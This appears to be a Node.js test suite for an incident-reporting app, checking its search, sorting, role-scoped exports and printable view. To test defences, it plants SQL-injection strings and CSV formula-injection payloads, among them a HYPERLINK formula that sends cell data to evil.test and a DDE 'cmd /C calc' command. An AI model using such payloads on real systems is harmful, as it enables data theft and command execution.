// Finding and using incident reports against the real binary, on SQLite
// or PostgreSQL: full-text search (narrative words, accents, reference
// numbers, department scope, hostile input), sorting, CSV and JSON exports
// (per-role columns, formula neutralisation, department scope, audit, the
// row cap) and the printable view.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { startServer, demoLogins, signIn, api, sql, DB } from './lib.mjs';

let srv, s, lib, libFacility, parksFacility;
const mark = `mk${Date.now().toString(36)}`; // a word no other report holds
before(async () => {
  srv = await startServer();
  const l = demoLogins(srv.dir);
  s = {};
  for (const [k, v] of Object.entries(l)) s[k] = await signIn(srv, v.email, v.password);
  lib = Number(sql(srv.db, "SELECT id FROM departments WHERE code = 'LAPL'").trim());
  libFacility = Number(sql(srv.db, `SELECT id FROM facilities WHERE department_id = ${lib} ORDER BY id LIMIT 1`).trim());
  parksFacility = Number(sql(srv.db, "SELECT f.id FROM facilities f JOIN departments d ON d.id = f.department_id WHERE d.code = 'RAP' ORDER BY f.id LIMIT 1").trim());
});
after(async () => { await srv.stop(); srv.cleanup(); });

const json = async (res) => ({ status: res.status, body: await res.json().catch(() => null), headers: res.headers });
const pad = (n) => String(n).padStart(2, '0');
function local(minutesAgo) {
  const d = new Date(Date.now() - minutesAgo * 60000);
  const f = new Intl.DateTimeFormat('en-CA', { timeZone: 'America/Los_Angeles', year: 'numeric', month: '2-digit', day: '2-digit', hour: '2-digit', minute: '2-digit', hourCycle: 'h23' }).formatToParts(d);
  const g = (t) => f.find((p) => p.type === t).value;
  return `${g('year')}-${g('month')}-${g('day')}T${g('hour')}:${g('minute')}`;
}
void pad;
function report(extra = {}) {
  return {
    facility_id: libFacility, started_at: local(90), ended_at: local(30), agencies: ['ice_ero'],
    agents_count: 4, vehicles_count: 2, document_type: 'admin_i200', access: 'refused',
    narrative: `Four agents waited in the lobby ${mark}.`, ...extra,
  };
}
async function file(who, body) {
  const r = await json(await api(srv, who, 'POST', '/api/v1/incidents', body));
  assert.equal(r.status, 201, JSON.stringify(r.body));
  return r.body;
}
const list = async (who, qs) => json(await api(srv, who, 'GET', `/api/v1/incidents?per_page=200&${qs}`));
const ids = (r) => r.body.items.map((i) => i.id);

// The body of a CSV answer: it starts with a UTF-8 byte order mark, so
// spreadsheets read the accents right (fetch's text() would hide it).
async function csvText(res) {
  const bytes = new Uint8Array(await res.arrayBuffer());
  assert.deepEqual([...bytes.slice(0, 3)], [0xef, 0xbb, 0xbf], 'a byte order mark');
  return new TextDecoder('utf-8', { fatal: true }).decode(bytes.slice(3));
}

// A small RFC 4180 reader for the tests: rows of cells.
function parseCsv(text) {
  const rows = [];
  let row = [], cell = '', q = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (q) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') q = false; else cell += c;
    } else if (c === '"') q = true;
    else if (c === ',') { row.push(cell); cell = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; }
    else { assert.notEqual(c, '\n', 'rows end with CRLF; a bare LF only inside quotes'); cell += c; }
  }
  assert.equal(cell, '');
  assert.equal(row.length, 0, 'the last row ends with CRLF');
  const [header, ...data] = rows;
  return { header, records: data.map((r) => { assert.equal(r.length, header.length); return Object.fromEntries(header.map((h, k) => [h, r[k]])); }) };
}

test('search finds words of the narrative and notes, with or without accents, in English and Spanish', async () => {
  const a = await file(s.liaison, report({ narrative: `El gerente rechazó la entrada al área del personal ${mark}.`, plates: `7ABC${mark}` }));
  const b = await file(s.liaison, report({ narrative: `They stopped at the cafe door ${mark} and left.` }));
  let r = await list(s.moia, `q=${encodeURIComponent('rechazo')}%20${mark}`);
  assert.equal(r.status, 200);
  assert.deepEqual(ids(r), [a.id]);
  r = await list(s.moia, `q=${encodeURIComponent(`RECHAZÓ AREA ${mark}`)}`);
  assert.deepEqual(ids(r), [a.id], 'accents and case do not matter');
  r = await list(s.moia, `q=${encodeURIComponent(`café ${mark}`)}`);
  assert.deepEqual(ids(r), [b.id], 'an accent typed that the text lacks still finds it');
  r = await list(s.moia, `q=${encodeURIComponent(`${mark} gere`)}`);
  assert.deepEqual(ids(r), [a.id], 'the last word is a prefix while typing');
  r = await list(s.moia, `q=${encodeURIComponent(`7ABC${mark}`)}`);
  assert.deepEqual(ids(r), [a.id], 'plates are searched too');
  r = await list(s.moia, `q=${encodeURIComponent(`${mark} gerente lobby`)}`);
  assert.deepEqual(ids(r), [], 'every word must match');
  r = await list(s.moia, `q=${mark}&status=submitted`);
  assert.equal(r.body.total, 0, 'search obeys the other filters');
  r = await list(s.moia, `q=${mark}`);
  assert.equal(r.body.total, 2);
  // An edit is indexed in its own transaction: the old words go, the new come.
  const e = await json(await api(srv, s.liaison, 'PATCH', `/api/v1/incidents/${b.id}`, { version: 1, data: report({ narrative: `Edited: zanahoria ${mark}.` }) }));
  assert.equal(e.status, 200);
  assert.deepEqual(ids(await list(s.moia, `q=zanahoria%20${mark}`)), [b.id]);
  assert.deepEqual(ids(await list(s.moia, `q=cafe%20${mark}`)), []);
  // A quick alert's note is searchable from the draft it starts.
  const al = await json(await api(srv, s.staff, 'POST', '/api/v1/alerts', { facility_id: libFacility, happening: 'agents_present', note: `Two agents by the elevator ${mark}` }));
  assert.equal(al.status, 201);
  assert.deepEqual(ids(await list(s.moia, `q=elevator%20${mark}`)), [al.body.id]);
});

test('search by reference number, whole or in part', async () => {
  const a = await file(s.liaison, report());
  const num = a.ref.slice(-6);
  let r = await list(s.moia, `q=${a.ref}`);
  assert.deepEqual(ids(r), [a.id]);
  r = await list(s.moia, `q=${a.ref.toLowerCase()}`);
  assert.deepEqual(ids(r), [a.id]);
  r = await list(s.moia, `q=${num}`);
  assert.deepEqual(ids(r), [a.id]);
  r = await list(s.liaison2, `q=${a.ref}`);
  assert.deepEqual(ids(r), [], 'another department\'s liaison finds nothing, even by reference');
});

test('a liaison never finds another department\'s report; MOIA and auditors find all', async () => {
  const word = `${mark}iso`;
  const a = await file(s.liaison, report({ narrative: `Agents at the desk ${word}.` }));
  const p = await file(s.liaison2, report({ facility_id: parksFacility, narrative: `Agents at the pool ${word}.` }));
  assert.deepEqual(ids(await list(s.liaison, `q=${word}`)), [a.id]);
  assert.deepEqual(ids(await list(s.liaison2, `q=${word}`)), [p.id]);
  assert.deepEqual(ids(await list(s.liaison2, `q=${word}&department_id=${lib}`)), [], 'a department filter does not widen the scope');
  assert.deepEqual(new Set(ids(await list(s.moia, `q=${word}`))), new Set([a.id, p.id]));
  assert.deepEqual(new Set(ids(await list(s.auditor, `q=${word}`))), new Set([a.id, p.id]));
});

test('hostile search input never errors and means only its words', async () => {
  const a = await file(s.liaison, report({ narrative: `Agents near the lobby door ${mark}hx and the desk (narrative body).` }));
  const w = `${mark}hx`;
  const finds = [w, `"${w}`, `${w}"`, `(${w})`, `${w}*`, `^${w}`, `-${w}`, `+${w}`, `narrative:${w}`, `body:${w}`,
    `${w} NEAR lobby`, `NEAR(${w} lobby)`, `${w} AND desk`,
    `${w} & desk`, `!${w}`, `${w} <-> desk`, `${w}:*`, `\\${w}`, `${w} %_`, `{${w}}`, `${w} 🙂`];
  for (const q of finds) {
    const r = await list(s.moia, `q=${encodeURIComponent(q)}`);
    assert.equal(r.status, 200, q);
    assert.ok(ids(r).includes(a.id), `${q} finds the report by its words`);
  }
  // Operators and SQL are words like any other: the text must hold them.
  const nothing = [`${w} NOT`, `${w} zzzqqq`, `${w} "lobby desk door" missing`, `${w} OR`, `${w}' OR '1'='1`,
    `${w}; DROP TABLE incidents; --`, `${w} | x`];
  for (const q of nothing) {
    const r = await list(s.moia, `q=${encodeURIComponent(q)}`);
    assert.equal(r.status, 200, q);
    assert.deepEqual(ids(r), [], `${q}: every word must be in the text`);
  }
  // Only punctuation or operators: no words, so no search (the other filters still apply).
  const all = (await list(s.moia, '')).body.total;
  for (const q of ['"', '*', '()', '" OR ""="', '^', '-', 'NEAR(', ':*']) {
    const r = await list(s.moia, `q=${encodeURIComponent(q)}`);
    assert.equal(r.status, 200, q);
    if (!/[A-Za-z]/.test(q)) assert.equal(r.body.total, all, `${q} has no words`);
  }
  const long = await list(s.moia, `q=${'x'.repeat(201)}`);
  assert.equal(long.status, 400);
  assert.equal(long.body.error.field, 'q');
  // The table is intact and the report still there.
  assert.equal((await json(await api(srv, s.moia, 'GET', `/api/v1/incidents/${a.id}`))).status, 200);
});

test('sorting: each order, and unknown orders refused on the API, ignored with a message on the page', async () => {
  const word = `${mark}srt`;
  // filed in the order A, B, C; started C... no: A most recently, then C, then B
  const A = await file(s.liaison, report({ started_at: local(100), ended_at: local(50), narrative: `a ${word}` }));
  const B = await file(s.liaison, report({ started_at: local(300), ended_at: local(50), narrative: `b ${word}` }));
  const C = await file(s.liaison, report({ started_at: local(200), ended_at: local(50), narrative: `c ${word}` }));
  const sub = await json(await api(srv, s.liaison, 'POST', `/api/v1/incidents/${B.id}/actions`, { action: 'submit', version: 1 }));
  assert.equal(sub.status, 200, JSON.stringify(sub.body));
  const order = async (sort) => ids(await list(s.moia, `q=${word}${sort ? `&sort=${sort}` : ''}`));
  assert.deepEqual(await order(''), [A.id, C.id, B.id], 'newest first by default');
  assert.deepEqual(await order('newest'), [A.id, C.id, B.id]);
  assert.deepEqual(await order('oldest'), [B.id, C.id, A.id]);
  assert.deepEqual(await order('reported_newest'), [C.id, B.id, A.id]);
  assert.deepEqual(await order('reported_oldest'), [A.id, B.id, C.id]);
  assert.deepEqual(await order('status'), [A.id, C.id, B.id], 'drafts, then submitted');
  assert.deepEqual(await order('reference'), [A.id, B.id, C.id]);
  // paging keeps the order
  const p2 = await json(await api(srv, s.moia, 'GET', `/api/v1/incidents?q=${word}&sort=oldest&per_page=1&page=2`));
  assert.deepEqual(p2.body.items.map((i) => i.id), [C.id]);
  for (const bad of ['started_at; DROP TABLE incidents', 'NEWEST', 'random']) {
    const r = await list(s.moia, `sort=${encodeURIComponent(bad)}`);
    assert.equal(r.status, 400, bad);
    assert.equal(r.body.error.field, 'sort');
    assert.match(r.body.error.message, /newest, oldest/);
  }
  const page = await api(srv, s.moia, 'GET', `/incidents?q=${word}&sort=sideways`);
  assert.equal(page.status, 200);
  const html = await page.text();
  assert.match(html, /sort order is not one we offer/);
  assert.ok(html.indexOf(A.ref) < html.indexOf(C.ref) && html.indexOf(C.ref) < html.indexOf(B.ref));
  const page2 = await (await api(srv, s.moia, 'GET', `/incidents?q=${word}&sort=oldest`)).text();
  assert.ok(page2.indexOf(B.ref) < page2.indexOf(C.ref) && page2.indexOf(C.ref) < page2.indexOf(A.ref));
  assert.match(page2, /<option value="oldest" selected>/);
});

test('export as CSV for MOIA: every column, formulas neutralised, RFC 4180, attachment, audited', async () => {
  const word = `${mark}csv`;
  const evil = await file(s.liaison, report({ narrative: `=HYPERLINK("http://evil.test/?"&A1,"Click") ${word}`, names_badges: '@SUM(1+1) badge 12', supervisor: '-Officer, "Chief"' }));
  const cmd = await file(s.liaison, report({ narrative: `+cmd|' /C calc'!A0 ${word}\nsecond line` }));
  await file(s.liaison2, report({ facility_id: parksFacility, narrative: `Pool ${word}` }));
  const before = Number(sql(srv.db, "SELECT COUNT(*) FROM audit_events WHERE action = 'incident.export'").trim());
  const res = await api(srv, s.moia, 'GET', `/api/v1/incidents/export?format=csv&q=${word}&sort=oldest`);
  assert.equal(res.status, 200);
  assert.match(res.headers.get('content-type'), /^text\/csv; charset=utf-8/);
  assert.match(res.headers.get('content-disposition'), /^attachment; filename="haven-incidents-\d{4}-\d{2}-\d{2}\.csv"$/);
  assert.equal(res.headers.get('cache-control'), 'no-store');
  assert.equal(res.headers.get('x-export-rows'), '3');
  const text = await csvText(res);
  const { header, records } = parseCsv(text);
  for (const h of ['ref', 'department', 'facility', 'status', 'started_at', 'agencies', 'narrative', 'names_badges', 'verification_note']) assert.ok(header.includes(h), h);
  assert.equal(records.length, 3);
  const byRef = Object.fromEntries(records.map((r) => [r.ref, r]));
  assert.equal(byRef[evil.ref].narrative, `'=HYPERLINK("http://evil.test/?"&A1,"Click") ${word}`);
  assert.equal(byRef[evil.ref].names_badges, "'@SUM(1+1) badge 12");
  assert.equal(byRef[evil.ref].supervisor, `'-Officer, "Chief"`);
  assert.equal(byRef[cmd.ref].narrative, `'+cmd|' /C calc'!A0 ${word}\nsecond line`);
  assert.equal(byRef[evil.ref].agencies, 'ice_ero');
  assert.match(byRef[evil.ref].started_at, /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}[+-]\d{2}:\d{2}$/);
  assert.ok(text.includes(`"'=HYPERLINK(""http://evil.test/?""&A1,""Click"") ${word}"`), 'quotes doubled inside a quoted cell');
  for (const r of records) for (const v of Object.values(r)) assert.ok(!/^[=+\-@\t\r]/.test(v), `no cell starts a formula: ${v}`);
  assert.ok(records.some((r) => r.department === 'RAP'));
  const after = Number(sql(srv.db, "SELECT COUNT(*) FROM audit_events WHERE action = 'incident.export'").trim());
  assert.equal(after, before + 1);
  const ev = sql(srv.db, "SELECT actor || '|' || object_type || '|' || object_id FROM audit_events WHERE action = 'incident.export' ORDER BY seq DESC LIMIT 1").trim();
  assert.match(ev, /^user:\d+\|incident_export\|csv rows=3 columns=all sort=oldest q=1-words$/);
  assert.ok(!ev.includes(word), 'the search words are committed to, not written in the log');
});

test('export as JSON: an array of objects with the same columns; values as typed', async () => {
  const word = `${mark}json`;
  const a = await file(s.liaison, report({ narrative: `=1+1 ${word}`, agents_count: 7, staging: true }));
  const r = await json(await api(srv, s.moia, 'GET', `/api/v1/incidents/export?format=json&q=${word}`));
  assert.equal(r.status, 200);
  assert.match(r.headers.get('content-type'), /^application\/json/);
  assert.match(r.headers.get('content-disposition'), /^attachment; filename="haven-incidents-\d{4}-\d{2}-\d{2}\.json"$/);
  assert.ok(Array.isArray(r.body));
  assert.equal(r.body.length, 1);
  const o = r.body[0];
  assert.equal(o.ref, a.ref);
  assert.equal(o.narrative, `=1+1 ${word}`, 'JSON keeps the text exactly');
  assert.equal(o.agents_count, 7);
  assert.equal(o.staging, true);
  assert.deepEqual(o.agencies, ['ice_ero']);
  assert.equal(o.verification_note, null);
  const empty = await json(await api(srv, s.moia, 'GET', `/api/v1/incidents/export?format=json&q=nothingmatches${mark}`));
  assert.deepEqual(empty.body, []);
  for (const bad of ['', 'format=xlsx', 'format=csv&sort=sideways', 'format=csv&status=lost']) {
    const b = await json(await api(srv, s.moia, 'GET', `/api/v1/incidents/export?${bad}`));
    assert.equal(b.status, 400, bad);
  }
});

test('exports hold only the columns the role may see; liaisons only their department; others refused', async () => {
  const word = `${mark}role`;
  const a = await file(s.liaison, report({ narrative: `Secret words ${word}`, names_badges: 'Agent Smith badge 1' }));
  const p = await file(s.liaison2, report({ facility_id: parksFacility, narrative: `Pool ${word}` }));
  // verify one so the reviewer's note exists
  let v = await json(await api(srv, s.liaison, 'POST', `/api/v1/incidents/${a.id}/actions`, { action: 'submit', version: 1 }));
  v = await json(await api(srv, s.moia, 'POST', `/api/v1/incidents/${a.id}/actions`, { action: 'verify', version: v.body.version, confidence: 'probable', note: 'Checked with the branch' }));
  assert.equal(v.status, 200);
  const moia = parseCsv(await csvText(await api(srv, s.moia, 'GET', `/api/v1/incidents/export?format=csv&q=${word}`)));
  const mine = moia.records.find((r) => r.ref === a.ref);
  assert.equal(mine.verification_note, 'probable: Checked with the branch');
  assert.equal(mine.confidence, 'probable');
  const aud = await api(srv, s.auditor, 'GET', `/api/v1/incidents/export?format=csv&q=${word}`);
  assert.equal(aud.status, 200);
  const audText = await csvText(aud);
  const auditor = parseCsv(audText);
  for (const h of ['narrative', 'names_badges', 'supervisor', 'plates', 'staging_note', 'contractor_note', 'alert_note', 'verification_note', 'access_area', 'access_decided_by']) {
    assert.ok(!auditor.header.includes(h), `auditors' exports have no ${h}`);
  }
  for (const h of ['ref', 'status', 'confidence', 'started_at', 'submitted_at', 'minutes_to_report', 'refer_legal']) assert.ok(auditor.header.includes(h), h);
  assert.ok(!audText.includes('Secret words') && !audText.includes('Agent Smith') && !audText.includes('Checked with'));
  assert.equal(auditor.records.length, 2);
  const audJson = await json(await api(srv, s.auditor, 'GET', `/api/v1/incidents/export?format=json&q=${word}`));
  assert.ok(audJson.body.every((o) => !('narrative' in o) && !('verification_note' in o) && 'status' in o));
  assert.equal(sql(srv.db, "SELECT object_id FROM audit_events WHERE action = 'incident.export' ORDER BY seq DESC LIMIT 1").trim(), 'json rows=2 columns=facts sort=newest q=1-words');
  // Liaisons: their department only, whatever they ask for.
  const l2 = parseCsv(await csvText(await api(srv, s.liaison2, 'GET', `/api/v1/incidents/export?format=csv&q=${word}`)));
  assert.deepEqual(l2.records.map((r) => r.ref), [p.ref]);
  assert.ok(l2.header.includes('narrative'));
  const l2lib = parseCsv(await csvText(await api(srv, s.liaison2, 'GET', `/api/v1/incidents/export?format=csv&department_id=${lib}`)));
  assert.deepEqual(l2lib.records, []);
  const l2all = parseCsv(await csvText(await api(srv, s.liaison2, 'GET', '/api/v1/incidents/export?format=csv')));
  assert.ok(l2all.records.length >= 1 && l2all.records.every((r) => r.department === 'RAP'));
  for (const who of ['workgroup', 'staff', 'agent311']) {
    assert.equal((await api(srv, s[who], 'GET', '/api/v1/incidents/export?format=csv')).status, 403, who);
  }
});

test('the list page links to exports of the current selection, and page exports work', async () => {
  const word = `${mark}pg`;
  const a = await file(s.liaison, report({ narrative: `Page ${word}` }));
  const html = await (await api(srv, s.moia, 'GET', `/incidents?q=${word}&status=draft&sort=oldest`)).text();
  assert.ok(html.includes(`href="/incidents/export.csv?status=draft&amp;q=${word}&amp;sort=oldest"`), 'CSV link keeps the filters');
  assert.ok(html.includes(`href="/incidents/export.json?status=draft&amp;q=${word}&amp;sort=oldest"`));
  const csv = await api(srv, s.moia, 'GET', `/incidents/export.csv?status=draft&q=${word}`);
  assert.equal(csv.status, 200);
  assert.match(csv.headers.get('content-disposition'), /^attachment;/);
  assert.deepEqual(parseCsv(await csvText(csv)).records.map((r) => r.ref), [a.ref]);
  const js = await json(await api(srv, s.moia, 'GET', `/incidents/export.json?q=${word}`));
  assert.deepEqual(js.body.map((o) => o.ref), [a.ref]);
  const wg = await (await api(srv, s.workgroup, 'GET', '/incidents')).text();
  assert.ok(!wg.includes('/incidents/export.csv'), 'no export link for a role that cannot export');
});

test('printable view: every field, status, verification, referrals and history; same read rules', async () => {
  const a = await file(s.liaison, report({ narrative: 'They asked for the staff room & left <quietly>.', plates: '7XYZ123', services_disrupted: true, disruption_minutes: 20 }));
  let v = await json(await api(srv, s.liaison, 'POST', `/api/v1/incidents/${a.id}/actions`, { action: 'submit', version: 1 }));
  v = await json(await api(srv, s.moia, 'POST', `/api/v1/incidents/${a.id}/actions`, { action: 'verify', version: v.body.version, confidence: 'confirmed', note: 'Seen on camera' }));
  v = await json(await api(srv, s.legal, 'POST', `/api/v1/incidents/${a.id}/actions`, { action: 'refer', version: v.body.version, refer_legal: true, note: 'For counsel' }));
  assert.equal(v.status, 200);
  const view = await (await api(srv, s.moia, 'GET', `/incidents/${a.id}`)).text();
  assert.ok(view.includes(`href="/incidents/${a.id}/print"`), 'the report page links to its printable view');
  const res = await api(srv, s.moia, 'GET', `/incidents/${a.id}/print`);
  assert.equal(res.status, 200);
  assert.equal(res.headers.get('cache-control'), 'no-store');
  const html = await res.text();
  assert.match(html, /<html lang="en"/);
  assert.ok(html.includes(`<h1 class="hv-print-ref">${a.ref}</h1>`), 'the reference is the heading');
  assert.ok(html.includes('They asked for the staff room &amp; left &lt;quietly&gt;.'), 'narrative, escaped');
  for (const t of ['7XYZ123', 'Administrative warrant, Form I-200', 'ICE Enforcement and Removal Operations (ERO)', 'Access was refused', 'Verified', 'Confirmed', 'Seen on camera', 'For counsel', 'City Attorney:</strong> referred', 'submit', 'verify', 'refer', 'Status:</strong> Verified']) {
    assert.ok(html.includes(t), t);
  }
  assert.ok(!/<nav|usa-header|<script/.test(html), 'no navigation and no script on the printable page');
  assert.equal((html.match(/<tr><th scope="row">/g) || []).length, 4, 'four versions in the history');
  const css = html.match(/href="(\/static\/[^"]+\/app\.css)"/)[1];
  const sheet = await (await fetch(srv.url + css)).text();
  assert.match(sheet, /@media print/);
  assert.ok(readFileSync('web/static/app.css', 'utf8').includes('.hv-print'));
  // Same read rules as the report page: another department's liaison gets 404, staff 403.
  assert.equal((await api(srv, s.liaison2, 'GET', `/incidents/${a.id}/print`)).status, 404);
  assert.equal((await api(srv, s.liaison, 'GET', `/incidents/${a.id}/print`)).status, 200);
  assert.equal((await api(srv, s.auditor, 'GET', `/incidents/${a.id}/print`)).status, 200);
  assert.equal((await api(srv, s.staff, 'GET', `/incidents/${a.id}/print`)).status, 403);
  assert.equal((await api(srv, s.moia, 'GET', '/incidents/99999999/print')).status, 404);
});

test('exports are capped at 100,000 reports with a clear refusal', async () => {
  // 100,001 reports in 2001, written straight into the database.
  const user = Number(sql(srv.db, "SELECT id FROM users ORDER BY id LIMIT 1").trim());
  const t0 = Date.UTC(2001, 5, 1);
  const cols = 'ref, department_id, facility_id, status, version, started_at, reported_at, filed_by, data, created_at, updated_at';
  const vals = `'BULK-' || n, ${lib}, ${libFacility}, 'draft', 1, ${t0} + n, ${t0} + n, ${user}, '{}', 0, 0`;
  if (DB === 'postgres') sql(srv.db, `INSERT INTO incidents (${cols}) SELECT ${vals} FROM generate_series(1, 100001) AS n`);
  else sql(srv.db, `INSERT INTO incidents (${cols}) WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c WHERE n < 100001) SELECT ${vals} FROM c`);
  const before = Number(sql(srv.db, "SELECT COUNT(*) FROM audit_events WHERE action = 'incident.export'").trim());
  const r = await json(await api(srv, s.moia, 'GET', '/api/v1/incidents/export?format=csv&from=2001-01-01&to=2001-12-31'));
  assert.equal(r.status, 422);
  assert.equal(r.body.error.code, 'export_too_large');
  assert.match(r.body.error.message, /more than 100000 reports, the most an export holds/);
  assert.equal(Number(sql(srv.db, "SELECT COUNT(*) FROM audit_events WHERE action = 'incident.export'").trim()), before, 'nothing exported, nothing recorded');
  // One fewer is exactly the cap, and goes out whole.
  sql(srv.db, "DELETE FROM incidents WHERE ref = 'BULK-1'");
  const ok = await api(srv, s.moia, 'GET', '/api/v1/incidents/export?format=csv&from=2001-01-01&to=2001-12-31');
  assert.equal(ok.status, 200);
  assert.equal(ok.headers.get('x-export-rows'), '100000');
  const lines = (await csvText(ok)).split('\r\n');
  assert.equal(lines.length, 100002, 'a header, 100,000 rows and the final CRLF');
});
